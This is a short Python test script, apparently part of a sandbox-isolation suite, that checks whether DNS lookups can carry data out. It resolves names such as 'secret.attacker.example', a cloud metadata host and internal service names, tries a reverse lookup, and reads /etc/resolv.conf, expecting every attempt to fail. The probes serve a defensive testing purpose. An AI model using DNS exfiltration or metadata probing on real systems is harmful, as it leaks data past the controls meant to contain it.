"""Strategy: ask a name server, to carry data out in the names.
Stopped by: no network and no socket; the file that names the servers names none.
"""

import contextlib
import socket

from attempts import attempt, check

for name in (
    "example.org",
    "secret.attacker.example",
    "metadata.google.internal",
    "postgres",
    "redis",
):
    attempt(name, lambda name=name: socket.getaddrinfo(name, 80))
attempt("the name of an address", lambda: socket.gethostbyaddr("8.8.8.8"))
servers = ""
with contextlib.suppress(OSError):
    servers = open("/etc/resolv.conf").read()
check("name servers of the host", "nameserver" not in servers)
